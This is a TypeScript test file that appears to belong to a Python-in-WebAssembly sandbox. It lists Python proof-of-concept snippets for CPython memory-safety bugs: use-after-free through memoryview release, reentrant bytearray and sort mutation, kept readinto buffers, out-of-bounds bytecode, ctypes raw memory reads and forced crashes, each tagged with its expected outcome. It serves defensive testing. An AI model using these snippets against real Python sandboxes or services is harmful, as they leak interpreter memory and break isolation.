/** Memory-safety bugs of CPython that need nothing but plain objects. In WebAssembly they write into the guest’s own memory. */
import { type Attack, type Ending, HARMLESS, inLanguage, STOPPED } from './attack.ts';

/** A worker whose interpreter trapped may be found dead; the run is over and nothing else is. */
const ANY: readonly Ending[] = [...HARMLESS, ...STOPPED, 'INTERNAL'];
const gains = ['memory', 'environment', 'file', 'inside'] as const;

export const pythonEngine: readonly Attack[] = inLanguage('python', [
  {
    id: 'py-memoryview-release-in-index',
    source: 'CPython issue 92888',
    code: `
backing = bytearray(64)
view = memoryview(backing).cast('n')
class Evil:
    def __index__(self):
        global other
        view.release()
        other = backing.clear() or bytearray()
        return 2
view[Evil()] = 2 ** 31 - 1
print(bytes(memoryview(other))[:100000].translate(None, bytes(1)))`,
    gains,
    ends: ANY,
  },
  {
    id: 'py-memoryview-slice-reenters',
    source: 'CPython issue 142665',
    code: `
b = bytearray(4096)
m = memoryview(b)
class Trigger:
    def __index__(self):
        m.release()
        b.clear()
        return 0
sub = m[Trigger():]
print(bytes(sub)[:2000])`,
    gains,
    ends: ANY,
  },
  {
    id: 'py-bytearray-count-reenters',
    source: 'CPython issues 91153 and 142558',
    code: `
v = bytearray(b'A' * 4096)
class Evil:
    def __index__(self):
        v.clear()
        return 65
print(v.count(Evil()), v.find(Evil()), v.index)
w = bytearray(b'B' * 4096)
class Other:
    def __index__(self):
        w.clear()
        return 66
w[5:9] = [Other(), Other()]
w.append(Other())
w.extend([Other()])`,
    gains,
    ends: ANY,
  },
  {
    id: 'py-buffered-reader-keeps-the-view',
    source: 'CPython issues 83691 and 157075, pull request 105290',
    code: `
import io
kept = []
class Raw(io.RawIOBase):
    def readinto(self, b):
        kept.append(b)
        return len(b)
    def readable(self):
        return True
r = io.BufferedReader(Raw(), 64)
r.read(8)
r.detach()
del r
junk = [bytes([67]) * 64 for _ in range(100)]
for k in kept:
    k[0:8] = b'BBBBBBBB'
print([j for j in junk if j[0] != 67][:3], bytes(kept[0])[:64])`,
    gains,
    ends: ANY,
  },
  {
    id: 'py-unpickler-readinto',
    source: 'CPython issue 151046',
    code: String.raw`
import pickle, struct
stash = []
class F:
    def __init__(self):
        self.h = b'\x80\x05\x8e' + struct.pack('<Q', 200000)
    def read(self, n=-1):
        d = self.h[:n]
        self.h = self.h[n:]
        return d
    def readline(self):
        return b''
    def readinto(self, b):
        stash.append(b)
        return len(b)
try:
    pickle.Unpickler(F()).load()
except Exception as e:
    print(type(e))
junk = [bytes(1000) for _ in range(300)]
print(bytes(stash[0])[:5000].translate(None, bytes(1)))`,
    gains,
    ends: ANY,
    isRefused: true,
  },
  {
    id: 'py-load-const-out-of-bounds',
    source: 'class: bytecode that reads past its constants (pyjail)',
    code: `
def f():
    pass
for index in (5, 50, 200, 255):
    for op in (82, 83, 100, 101, 116, 124):
        try:
            c = f.__code__.replace(co_code=bytes([128, 0, op, index, 35, 0]), co_stacksize=10)
            print(type(type(f)(c, {})()))
        except BaseException as e:
            print(type(e))`,
    gains,
    ends: ANY,
    isRefused: true,
  },
  {
    id: 'py-sort-mutates-the-list',
    source: 'class: comparisons that change what is sorted',
    code: `
a = []
class K:
    def __init__(self, v):
        self.v = v
    def __lt__(self, o):
        a.clear()
        a.append(object())
        return self.v < o.v
    def __del__(self):
        a.append(1)
a.extend(K(i % 7) for i in range(500))
try:
    a.sort()
except ValueError as e:
    print(e)
d = {}
class H:
    def __hash__(self):
        return 1
    def __eq__(self, o):
        d.clear()
        return False
for i in range(100):
    d[H()] = i
print(len(d))`,
    gains,
    ends: ANY,
  },
  {
    id: 'py-struct-and-array-bounds',
    source: 'class: offsets and formats of binary modules',
    code: `
import struct, array
b = bytearray(16)
for go in (lambda: struct.pack_into('i', b, -2 ** 31, 1), lambda: struct.unpack_from('1000000000i', b, 0), lambda: struct.unpack_from('i', b, 2 ** 31 - 1), lambda: array.array('q', b).__getitem__(2 ** 31), lambda: memoryview(b).cast('B', (2 ** 16, 2 ** 16)), lambda: struct.calcsize('2147483648s')):
    try:
        print(go())
    except BaseException as e:
        print(type(e))`,
    gains,
    ends: ANY,
  },
  {
    id: 'py-setstate-of-iterators',
    source: 'class: `__setstate__` and `__reduce__` with impossible states',
    code: `
import itertools, random, collections, functools
for go in (lambda: iter([1]).__setstate__(-2 ** 31), lambda: iter('x').__setstate__(2 ** 31 - 1), lambda: itertools.product([1], [2]).__setstate__((99, 99)), lambda: random.Random().setstate((3, (2 ** 32 - 1,) * 624 + (2 ** 31,), None)), lambda: functools.partial(print).__setstate__((print, (print,), {}, {'__class__': 1})), lambda: itertools.cycle([1]).__setstate__(([], 5)), lambda: itertools.accumulate([1]).__setstate__(print)):
    try:
        print(go())
    except BaseException as e:
        print(type(e))`,
    gains,
    ends: ANY,
  },
  {
    id: 'py-ctypes-reads-memory',
    source: 'class: the interpreter’s memory by address',
    code: `
import ctypes
for address in (0, 1024, 2 ** 16, 2 ** 20, id(print), 2 ** 31, 2 ** 32 - 64):
    try:
        print(ctypes.string_at(address, 65536).translate(None, bytes(range(32)) + bytes(range(127, 256)))[:20000])
    except BaseException as e:
        print(type(e))`,
    gains,
    ends: ANY,
    isRefused: true,
  },
  {
    id: 'py-faulthandler',
    source: 'class: a crash on demand, and its report',
    code: `
import faulthandler, sys
faulthandler.dump_traceback(file=sys.__stderr__)
faulthandler._read_null()
faulthandler._stack_overflow()
faulthandler._sigsegv()`,
    gains: ['inside'],
    ends: ANY,
    isRefused: true,
  },
]);
